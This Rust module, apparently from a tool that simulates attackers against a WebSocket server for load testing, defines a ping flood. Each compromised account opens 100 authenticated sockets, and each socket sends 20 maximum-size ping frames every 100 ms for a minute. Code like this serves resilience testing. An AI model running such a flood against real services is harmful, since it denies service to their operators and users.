//! Pings over WebSockets, far more than anybody needs.

use std::time::Duration;

use crate::attack::foothold::Foothold;
use crate::attack::script::{Force, Habits};
use crate::frame::put_ping;
use crate::load::handshake::put_request;

const CONNECTIONS: usize = 100;
/// Of one turn.
const PINGS: usize = 20;
/// As long as a ping's payload may be (RFC 6455, section 5.5).
const PAYLOAD: [u8; 125] = [b'p'; 125];

const HABITS: Habits = Habits {
    every: Duration::from_millis(100),
    reads: true,
    awaits: false,
    stays: Duration::from_secs(60),
    rests: Duration::from_millis(500),
};

/// Each of the attackers' accounts has as many sockets.
pub(super) fn force(foothold: &Foothold) -> Force {
    let (host, accounts) = (foothold.host(), foothold.accounts.clone());
    Force {
        connections: CONNECTIONS,
        habits: HABITS,
        script: Box::new(move |place| {
            let (host, user) = (host.clone(), accounts[place % accounts.len()].clone());
            Box::new(move |turn, out: &mut Vec<u8>| {
                if turn == 0 {
                    let path = format!("/ws/connect/{}", user.id);
                    let credential = format!("{}\r\n", user.credential);
                    return put_request(&path, &host, &credential, out);
                }
                for _ in 0..PINGS {
                    put_ping(&PAYLOAD, out);
                }
            })
        }),
    }
}
